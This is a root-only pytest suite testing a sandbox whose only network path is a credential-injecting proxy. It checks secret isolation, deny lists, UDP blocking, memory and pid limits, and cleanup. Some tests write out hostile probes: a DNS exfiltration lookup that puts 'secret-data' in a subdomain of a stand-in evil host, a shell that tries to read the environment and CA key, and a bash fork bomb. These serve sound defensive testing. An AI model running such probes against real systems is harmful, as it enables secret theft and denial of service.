"""`authproxy sandbox run` (SPEC §5, §8): a command in a fresh sandbox whose only network path is
the proxy. Clients inside ignore proxy variables; capture is transparent (netns + nftables).

Some tests pin names with curl --resolve to an address that is never routed (203.0.113.0/24):
the connection is captured whatever it dials. Others go through the sandbox's own resolver.
Needs root (network namespaces, cgroups); skipped otherwise.
"""
import fcntl
import json
import os
import subprocess

import pytest

from conftest import header_rule

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="sandboxes need root")

NAME = "api.example.test"
PINNED = ["--resolve", "%s:443:203.0.113.7" % NAME]


def netns_count():
    out = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout
    return sum(1 for line in out.splitlines() if line.startswith("authproxy-"))


def sandbox_argv(stack, tmp_path, cmd, rules=(), secrets=None, access_control=None, timeout=None,
                 extra=()):
    cfg = stack.config({"rules": list(rules), "access_control": access_control or {}},
                       secrets=secrets)
    path = tmp_path / "sandbox.json"
    path.write_text(json.dumps(cfg))
    os.chmod(path, 0o600)
    argv = [stack.binary, "sandbox", "run", "--config", str(path), "--state-dir",
            str(tmp_path / "state"), "--upstream-dns", stack.dns.addr]
    if timeout:
        argv += ["--timeout", str(timeout)]
    return argv + list(extra) + ["--"] + cmd


def run_sandbox(stack, tmp_path, cmd, **kw):
    return subprocess.run(sandbox_argv(stack, tmp_path, cmd, **kw), capture_output=True,
                          timeout=120)


def api_rule(hosts=(NAME,)):
    return header_rule("api", hosts, [("Authorization", "workspace_secret", "Bearer {KEY}")])


def test_curl_ignoring_proxy_variables_gets_the_credential_injected(stack, tmp_path):
    origin = stack.tls_origin(NAME)
    key = stack.secret()
    before = netns_count()
    p = run_sandbox(stack, tmp_path, ["curl", "-sS", "--noproxy", "*"] + PINNED +
                    ["https://%s/v1/models" % NAME],
                    rules=[api_rule()], secrets={"KEY": key})
    assert p.returncode == 0, p.stderr.decode()
    assert b"ok from api.example.test" in p.stdout
    [req] = origin.snapshot()
    assert req.values("Authorization") == ["Bearer " + key]
    assert key.encode() not in p.stdout + p.stderr
    assert netns_count() == before, "the sandbox's network namespace was left behind"


def test_python_requests_inside_the_sandbox_gets_the_credential(stack, tmp_path):
    origin = stack.tls_origin(NAME)
    key = stack.secret()
    script = ("import requests, socket\n"
              "orig = socket.getaddrinfo\n"
              "socket.getaddrinfo = lambda h, *a, **k: orig('203.0.113.7', *a, **k)\n"
              "s = requests.Session(); s.trust_env = False\n"
              "r = s.get('https://%s/py', timeout=10)\n"
              "print(r.status_code, r.text.strip())\n" % NAME)
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", script], rules=[api_rule()],
                    secrets={"KEY": key})
    assert p.returncode == 0, p.stderr.decode()
    assert p.stdout.startswith(b"200 ")
    [req] = origin.snapshot()
    assert req.path == "/py" and req.values("Authorization") == ["Bearer " + key]


def test_a_denied_host_cannot_be_reached_and_nothing_arrives(stack, tmp_path):
    origin = stack.tls_origin("evil.example.test")
    p = run_sandbox(stack, tmp_path, ["curl", "-sS", "-m", "5", "--noproxy", "*",
                                      "--resolve", "evil.example.test:443:203.0.113.8",
                                      "https://evil.example.test/"],
                    access_control={"deny_list": ["evil.example.test"]})
    assert p.returncode != 0
    assert origin.snapshot() == []


def test_the_environment_and_files_hold_no_secret(stack, tmp_path):
    key = stack.secret()
    stack.tls_origin(NAME)
    script = ("env; cat /proc/self/environ; echo; "
              "ls -la %s 2>&1; cat %s/ca.key 2>&1; cat %s 2>&1; "
              "grep -rl -- '%s' /tmp /workspace /etc 2>/dev/null; true"
              % (tmp_path / "state", tmp_path / "state", tmp_path / "sandbox.json", key))
    os.environ["AUTHPROXY_TEST_LEAK"] = key  # the caller's environment must not leak in
    try:
        p = run_sandbox(stack, tmp_path, ["/bin/sh", "-c", script], rules=[api_rule()],
                        secrets={"KEY": key})
    finally:
        del os.environ["AUTHPROXY_TEST_LEAK"]
    assert p.returncode == 0, p.stderr.decode()
    assert key.encode() not in p.stdout, p.stdout.decode(errors="replace")
    assert b"AUTHPROXY_TEST_LEAK" not in p.stdout
    assert b"BEGIN" not in p.stdout, "the CA key or config is readable inside"
    assert b"SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt" in p.stdout


def test_exit_status_and_output_are_relayed_exactly(stack, tmp_path):
    p = run_sandbox(stack, tmp_path, ["/bin/sh", "-c", "printf 'out\\000x'; printf err >&2; exit 7"])
    assert p.returncode == 7
    assert p.stdout == b"out\x00x"
    assert p.stderr.endswith(b"err") or b"err" in p.stderr


def test_timeout_kills_a_sleeping_command(stack, tmp_path):
    p = run_sandbox(stack, tmp_path, ["sleep", "60"], timeout=1)
    assert p.returncode == 124, p.stderr.decode()


def test_non_http_tcp_to_a_refused_address_is_closed(stack, tmp_path):
    # A raw TCP connection that is neither TLS nor HTTP, to an address no_proxy does not name.
    script = ("import socket\n"
              "s = socket.create_connection(('198.51.100.9', 5432), timeout=5)\n"
              "s.sendall(b'\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f')\n"
              "print('got', s.recv(10))\n")
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", script])
    assert b"got b''" in p.stdout or p.returncode != 0, p.stdout


def test_names_resolve_through_the_sandbox_resolver_and_are_captured(stack, tmp_path):
    origin = stack.tls_origin(NAME)
    key = stack.secret()
    p = run_sandbox(stack, tmp_path, ["curl", "-sS", "--noproxy", "*", "https://%s/dns" % NAME],
                    rules=[api_rule()], secrets={"KEY": key})
    assert p.returncode == 0, p.stderr.decode()
    [req] = origin.snapshot()
    assert req.path == "/dns" and req.values("Authorization") == ["Bearer " + key]


def test_dns_for_a_denied_name_is_refused_and_never_sent_upstream(stack, tmp_path):
    stack.dns.add_a("exfil.evil.example.test", "203.0.113.66")
    stack.dns.add_a("fine.example.test", "203.0.113.67")
    script = ("import socket\n"
              "for n in ('secret-data-1234.exfil.evil.example.test', 'fine.example.test'):\n"
              "    try:\n"
              "        print(n, socket.gethostbyname(n))\n"
              "    except OSError as e:\n"
              "        print(n, 'failed', e)\n")
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", script],
                    access_control={"deny_list": ["*.evil.example.test"]})
    assert p.returncode == 0, p.stderr.decode()
    out = p.stdout.decode()
    assert "secret-data-1234.exfil.evil.example.test failed" in out, out
    assert "fine.example.test 203.0.113.67" in out, out
    assert not stack.dns.queried("secret-data-1234.exfil.evil.example.test")
    assert stack.dns.queried("fine.example.test")


def test_node_fetch_inside_the_sandbox_gets_the_credential(stack, tmp_path):
    origin = stack.tls_origin(NAME)
    key = stack.secret()
    script = ("fetch('https://%s/node').then(r => r.text())"
              ".then(t => { console.log(t.trim()); }).catch(e => { console.error(e); process.exit(1); })"
              % NAME)
    p = run_sandbox(stack, tmp_path, ["node", "-e", script], rules=[api_rule()],
                    secrets={"KEY": key})
    assert p.returncode == 0, p.stderr.decode()
    [req] = origin.snapshot()
    assert req.path == "/node" and req.values("Authorization") == ["Bearer " + key]
    assert key.encode() not in p.stdout + p.stderr


def test_git_clone_inside_the_sandbox_gets_the_credential(stack, tmp_path, git_repo):
    origin = stack.tls_origin("git.example.test", git=True)
    token = stack.secret("ghp-e2e")
    rule = header_rule("git", ["git.example.test"],
                       [("Authorization", "workspace_secret", "Bearer {GIT_TOKEN}")])
    p = run_sandbox(stack, tmp_path, ["git", "clone", "-q",
                                      "https://git.example.test/git/repo.git", "/workspace/clone"],
                    rules=[rule], secrets={"GIT_TOKEN": token})
    assert p.returncode == 0, p.stderr.decode()[-3000:]
    reqs = origin.snapshot()
    assert reqs and all(r.values("Authorization") == ["Bearer " + token] for r in reqs)
    assert token.encode() not in p.stdout + p.stderr


# -- limits, UDP, straight-to-IP, leaks (issue 4's list of tests) -------------------------------

import socket  # noqa: E402
import threading  # noqa: E402
import time  # noqa: E402


def test_memory_limit_triggers_an_oom_kill(stack, tmp_path):
    # 400 MiB touched under a 64 MiB limit: the cgroup's OOM killer ends it (SIGKILL), and the
    # run says it was the memory limit (the cgroup counted an OOM kill), not some other signal.
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c",
                                      "x = bytearray(400 << 20); print('survived', len(x))"],
                    extra=["--mem-bytes", str(64 << 20)])
    assert p.returncode == 128 + 9, (p.returncode, p.stderr.decode()[-2000:])
    assert b"survived" not in p.stdout
    assert b"ran out of memory" in p.stderr, p.stderr.decode()[-2000:]
    # The same command with room for it runs: the kill above was the limit, not the command.
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c",
                                      "x = bytearray(16 << 20); print('survived', len(x))"],
                    extra=["--mem-bytes", str(256 << 20)])
    assert p.returncode == 0 and p.stdout == b"survived 16777216\n", p.stderr.decode()[-2000:]


FORK_UNTIL_REFUSED = """
import os, signal, time
n = 0
err = None
try:
    while n < 5000:
        pid = os.fork()
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        n += 1
except OSError as e:
    err = e.errno
print("forked", n, "refused", err, flush=True)
"""


def test_pids_limit_stops_a_fork_bomb(stack, tmp_path):
    # Forking until the kernel says no: the sandbox's pids limit (512 tasks, box_runtime.h)
    # refuses with EAGAIN long before 5000, and the sleeping children die with the sandbox.
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", FORK_UNTIL_REFUSED], timeout=60)
    out = p.stdout.decode()
    assert p.returncode == 0, (out, p.stderr.decode()[-2000:])
    words = out.split()
    assert words[0] == "forked" and words[2] == "refused", out
    assert 100 < int(words[1]) < 512, out
    assert words[3] == "11", out  # EAGAIN: the pids controller's refusal
    # A real shell fork bomb ends (timeout) and leaves the host's process table as it was.
    bomb = "bomb6047() { bomb6047 | bomb6047 & }; bomb6047; sleep 5; echo done"
    t0 = time.monotonic()
    p = run_sandbox(stack, tmp_path, ["/bin/bash", "-c", bomb], timeout=8)
    assert time.monotonic() - t0 < 60
    time.sleep(0.5)
    left = subprocess.run(["pgrep", "-f", "bomb6047"], capture_output=True, text=True).stdout.split()
    assert left == [], "fork bomb processes survived the sandbox: %s" % left


UDP_PROBE = r"""
import random, socket, struct, sys
port = int(sys.argv[1])
gw = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]

def query(name):
    q = struct.pack('>HHHHHH', random.randrange(65536), 0x0100, 1, 0, 0, 0)
    for label in name.split('.'):
        q += bytes([len(label)]) + label.encode()
    return q + b'\x00' + struct.pack('>HH', 1, 1)

def send(addr, data):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    try:
        s.sendto(data, addr)
        return 'reply %d bytes' % len(s.recv(2048))
    except socket.timeout:
        return 'no reply'
    except OSError as e:
        return 'error %s' % e.errno
    finally:
        s.close()

print('dns', send(('198.51.100.53', 53), query('fine.example.test')))
print('gateway', send((gw, port), b'probe-gateway'))
print('public', send(('203.0.113.9', port), b'probe-public'))
print('public443', send(('203.0.113.9', 443), b'probe-quic'))
"""


def test_udp_to_anything_but_the_sandbox_resolver_is_dropped(stack, tmp_path):
    stack.dns.add_a("fine.example.test", "203.0.113.67")
    # A UDP listener on every host address: a datagram from the sandbox that got through to the
    # host (its veth's host end, or routed anywhere) would land here.
    lst = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    lst.bind(("0.0.0.0", 0))
    lst.settimeout(0.2)
    port = lst.getsockname()[1]
    got = []

    def listen():
        while not stop.is_set():
            try:
                got.append(lst.recvfrom(2048))
            except socket.timeout:
                pass

    stop = threading.Event()
    t = threading.Thread(target=listen, daemon=True)
    t.start()
    try:
        p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", UDP_PROBE, str(port)])
        time.sleep(0.5)
    finally:
        stop.set()
        t.join(2)
        lst.close()
    out = p.stdout.decode()
    assert p.returncode == 0, (out, p.stderr.decode()[-2000:])
    # UDP to port 53 of any address is the sandbox's resolver: it answers (the positive control).
    assert "dns reply" in out, out
    assert stack.dns.queried("fine.example.test")
    for probe in ("gateway", "public", "public443"):
        assert "%s no reply" % probe in out or "%s error" % probe in out, out
    assert got == [], "UDP from the sandbox reached the host: %r" % got


def test_connecting_straight_to_an_ip_the_policy_refuses_fails(stack, tmp_path):
    # Two addresses a sandbox dials by IP, no name involved; dns_remap sends both to local
    # origins, so an allowed connection really arrives and a refused one would be seen.
    allowed = stack.plain_origin("198.51.100.21")
    refused = stack.plain_origin("198.51.100.20")
    refused_tls = stack.tls_origin("198.51.100.22")
    ac = {"deny_list": ["198.51.100.20", "198.51.100.22"]}
    script = ("for u in http://198.51.100.21/ok http://198.51.100.20/no https://198.51.100.22/no; do "
              "  code=$(curl -sk -m 5 --noproxy '*' -o /dev/null -w '%{http_code}' $u); "
              "  echo \"$u $? $code\"; "
              "done")
    p = run_sandbox(stack, tmp_path, ["/bin/bash", "-c", script], access_control=ac)
    out = p.stdout.decode()
    assert p.returncode == 0, (out, p.stderr.decode()[-2000:])
    lines = dict(line.split(" ", 1) for line in out.splitlines())
    assert lines["http://198.51.100.21/ok"] == "0 200", out  # the positive control
    assert [r.path for r in allowed.snapshot()] == ["/ok"]
    assert lines["http://198.51.100.20/no"] in ("0 403", "52 000", "56 000", "7 000"), out
    assert not lines["https://198.51.100.22/no"].endswith(" 200"), out
    assert refused.snapshot() == [] and refused.accepts == 0
    assert refused_tls.snapshot() == [] and refused_tls.accepts == 0
    # A raw TCP connection (neither TLS nor HTTP) to the refused address gets nothing either.
    script = ("import socket\n"
              "s = socket.create_connection(('198.51.100.20', 80), timeout=5)\n"
              "s.sendall(b'\\x00\\x01hello')\n"
              "print('got', s.recv(10))\n")
    p = run_sandbox(stack, tmp_path, ["/usr/bin/python3", "-c", script], access_control=ac)
    assert b"got b''" in p.stdout or p.returncode != 0, p.stdout
    assert refused.accepts == 0


def host_objects():
    """`sandbox run`'s objects on the host (its default names: netns.h, cgroup "authproxy")."""
    ns = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout
    links = subprocess.run(["ip", "-o", "link", "show"], capture_output=True, text=True).stdout
    tables = subprocess.run(["nft", "list", "tables"], capture_output=True, text=True).stdout
    objs = {("netns", l.split()[0]) for l in ns.splitlines() if l.startswith("authproxy-")}
    objs |= {("link", l.split(":")[1].strip().split("@")[0]) for l in links.splitlines()
             if l.split(":")[1].strip().startswith("ap-")}
    objs |= {("nft", l.split()[-1]) for l in tables.splitlines()
             if l.split()[-1].startswith("authproxy_")}
    for ctl in ("pids", "memory", "cpu", ""):
        base = os.path.join("/sys/fs/cgroup", ctl, "authproxy")
        if os.path.isdir(base):
            objs |= {("cgroup", ctl + "/" + e) for e in os.listdir(base)
                     if os.path.isdir(os.path.join(base, e))}
    return objs


def test_twenty_sandboxes_leave_no_netns_link_nft_table_or_cgroup(stack, tmp_path):
    before = host_objects()
    seen = set()
    script = "cat /etc/hostname >/dev/null; echo up"
    for i in range(20):
        p = run_sandbox(stack, tmp_path, ["/bin/sh", "-c", script])
        assert p.returncode == 0 and p.stdout == b"up\n", p.stderr.decode()[-2000:]
        seen |= host_objects() - before
    # Other processes on the host may run their own sandboxes meanwhile (same default names):
    # what counts is that nothing new stays. Theirs are gone within seconds; a leak never is.
    deadline = time.monotonic() + 10
    left = host_objects() - before
    while left and time.monotonic() < deadline:
        time.sleep(0.5)
        left = host_objects() - before
    assert left == set(), "left behind: %s" % sorted(left)


RUN_LOCKS = "/run/authproxy/sandbox-run"


def run_locks():
    return set(os.listdir(RUN_LOCKS)) if os.path.isdir(RUN_LOCKS) else set()


def test_a_killed_sandbox_run_is_cleaned_up_by_the_next_one(stack, tmp_path):
    """kill -9 of `sandbox run` leaves its netns, link, nft table, cgroup and temporary directory
    (nothing of it can run any more); the next `sandbox run` finds its lock file unlocked and
    removes all of them, and its command meanwhile."""
    before, locks_before = host_objects(), run_locks()
    p = subprocess.Popen(sandbox_argv(stack, tmp_path, ["/bin/sh", "-c", "echo up; exec sleep 60.125"]),
                         stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 20
        mine = set()
        while time.monotonic() < deadline and not {k for k, _ in mine} >= {"netns", "cgroup"}:
            time.sleep(0.1)
            mine = host_objects() - before
        [lock] = run_locks() - locks_before
        run_id = lock[:-len(".lock")]
        tmp = "/tmp/authproxy-sandbox-" + run_id
        assert {k for k, _ in mine} >= {"netns", "link", "nft", "cgroup"}, mine
        assert os.path.isdir(tmp)
    finally:
        p.kill()
        p.wait()
    time.sleep(0.5)
    assert mine <= host_objects(), "the killed run's objects went away by themselves?"

    q = run_sandbox(stack, tmp_path, ["/bin/true"])
    assert q.returncode == 0, q.stderr.decode()[-2000:]
    assert ("sandbox %s was left by a run that did not finish" % run_id).encode() in q.stderr
    left = mine & host_objects()
    assert left == set(), "left behind: %s" % sorted(left)
    assert not os.path.exists(tmp)
    assert lock not in run_locks()
    assert subprocess.run(["pgrep", "-f", "sleep 60.125"], capture_output=True).returncode == 1


NETNS_LOCK = "/run/authproxy-netns.lock"  # netns.h NETNS_DEFAULT_LOCK_PATH


def test_a_start_fails_with_a_reason_when_another_process_holds_the_allocator_lock(stack, tmp_path):
    """Every authproxy process takes one lock to pick a sandbox's addresses. A holder that never
    lets go (stopped, hung) makes a start fail after 10 s, saying why, instead of hanging it;
    once the lock is free, starts work again."""
    fd = os.open(NETNS_LOCK, os.O_RDWR | os.O_CREAT, 0o600)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        t0 = time.monotonic()
        p = run_sandbox(stack, tmp_path, ["/bin/echo", "ran"])
        took = time.monotonic() - t0
    finally:
        os.close(fd)  # releases the lock
    err = p.stderr.decode()
    assert p.returncode != 0 and b"ran" not in p.stdout, (p.returncode, p.stdout, err[-2000:])
    assert "another process has held the sandbox network allocator lock %s for 10 s" % NETNS_LOCK \
        in err, err[-2000:]
    assert 9.5 < took < 60, took
    q = run_sandbox(stack, tmp_path, ["/bin/echo", "ran"])
    assert q.returncode == 0 and q.stdout == b"ran\n", (q.returncode, q.stderr.decode()[-2000:])


DNS_BURST = r"""
import random, socket, struct, sys
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.connect((ns, 53))
print('address', probe.getsockname()[0])
lost = 0
for i in range(int(sys.argv[1])):
    q = struct.pack('>HHHHHH', random.randrange(65536), 0x0100, 1, 0, 0, 0)
    q += b'\x04deny\x04evil\x07example\x04test\x00' + struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    try:
        s.sendto(q, (ns, 53))
        s.recv(512)
    except OSError:
        lost += 1
    finally:
        s.close()
print('lost', lost)
"""


def test_a_sandbox_at_a_reused_address_loses_no_dns_to_its_predecessors_conntrack(stack, tmp_path):
    """The host NATs a sandbox's DNS to its daemon's resolver port, and UDP conntrack entries
    outlive the sandbox. A later sandbox at the same address (another daemon, another resolver
    port) whose source port matched a stale entry used to be NATed to the dead port: after a
    predecessor that made 4000 queries, about 40 of these 400 vanished. Now each sandbox starts
    with none."""
    def burst(n, sub):
        d = tmp_path / sub
        d.mkdir()
        p = run_sandbox(stack, d, ["/usr/bin/python3", "-c", DNS_BURST, str(n)],
                        access_control={"deny_list": ["*.evil.example.test"]})
        assert p.returncode == 0, p.stderr.decode()
        out = dict(line.split(" ", 1) for line in p.stdout.decode().splitlines())
        return out["address"], int(out["lost"])

    first_addr, _ = burst(4000, "first")   # leaves ~4000 UDP entries for its address
    # Its veth goes with its namespace, in the background: wait, so the next one gets the address.
    deadline = time.monotonic() + 5
    while any(kind == "link" for kind, _ in host_objects()) and time.monotonic() < deadline:
        time.sleep(0.05)
    second_addr, lost = burst(400, "second")
    if second_addr != first_addr:
        pytest.skip("another sandbox held the address meanwhile (%s, then %s)"
                    % (first_addr, second_addr))
    assert lost == 0, "%d of 400 DNS queries vanished" % lost
